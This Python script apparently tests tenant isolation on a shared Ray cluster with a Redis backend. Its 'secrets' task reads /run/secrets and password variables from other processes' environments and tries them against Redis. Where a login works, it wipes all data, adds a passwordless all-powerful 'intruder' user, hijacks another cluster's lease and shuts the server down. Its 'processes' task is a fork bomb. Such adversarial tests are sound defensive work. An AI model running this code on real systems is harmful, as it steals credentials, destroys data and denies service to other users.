"""A task that takes all it can: greedy.py secrets NAMESPACE, or greedy.py processes COUNT. Prints JSON."""

import json
import os
import socket
import sys
import time
from pathlib import Path

import ray

REDIS = ("redis", 6379)


def talk(*commands: tuple[str, ...]) -> list[str]:
    """Sends commands over one connection; the first line of each answer."""
    with socket.create_connection(REDIS, timeout=5) as link, link.makefile("rwb") as stream:
        answers = []
        for words in commands:
            stream.write(b"*%d\r\n" % len(words))
            stream.write(b"".join(b"$%d\r\n%s\r\n" % (len(word), word.encode()) for word in words))
            stream.flush()
            answers.append(stream.readline().decode(errors="replace").strip())
    return answers


@ray.remote(num_cpus=0)
def secrets(namespace: str) -> dict[str, list[str]]:
    """Logs in with whatever there is, and does what only the all-powerful user may."""
    harm = [
        ("FLUSHALL",),
        ("KEYS", "*"),
        ("ACL", "SETUSER", "intruder", "on", "nopass", "~*", "+@all"),
        ("CONFIG", "GET", "requirepass"),
        ("DEL", "cslr:another-cluster:lease"),
        ("HSET", "cslr:another-cluster:lease", "host", "intruder"),
        ("CLIENT", "KILL", "TYPE", "normal"),
        ("SHUTDOWN", "NOSAVE"),
    ]
    lease = ("HSET", f"cslr:{namespace}:lease", "intruder", "1")
    found = {}
    for path in Path("/run/secrets").iterdir():
        try:
            found[path.name] = path.read_text().strip()
        except PermissionError:
            continue
    for process in Path("/proc").glob("[0-9]*/environ"):
        try:
            for line in process.read_text(errors="replace").split("\0"):
                name, _, value = line.partition("=")
                if "PASSWORD" in name.upper() and not value.startswith("/"):
                    found[name] = value
        except OSError:
            continue
    answers = {}
    for name, secret in found.items():
        for user in ("default", "cslr-reader", "cslr-agent"):
            first, *rest = talk(("AUTH", user, secret), *harm, lease)
            if first == "+OK":
                answers[f"{name} as {user}"] = rest
    return answers


@ray.remote(num_cpus=0)
def other() -> int:
    """Another user's task."""
    return os.getpid()


@ray.remote(num_cpus=0, max_retries=0)
def processes(count: int) -> int:
    """Starts as many processes as it gets, for a minute at most."""
    end, made = time.monotonic() + 60, 0
    while made < count and time.monotonic() < end:
        try:
            if not os.fork():
                time.sleep(60)
                os._exit(0)
            made += 1
        except OSError:
            time.sleep(0.01)
    return made


ray.init("auto", logging_level="ERROR")
if sys.argv[1] == "secrets":
    print(json.dumps(ray.get(secrets.remote(sys.argv[2]))))
else:
    try:
        result = str(ray.get(processes.remote(int(sys.argv[2])), timeout=180))
    except ray.exceptions.RayError as error:
        result = type(error).__name__
    ray.get(other.remote(), timeout=60)
    print(json.dumps(result))
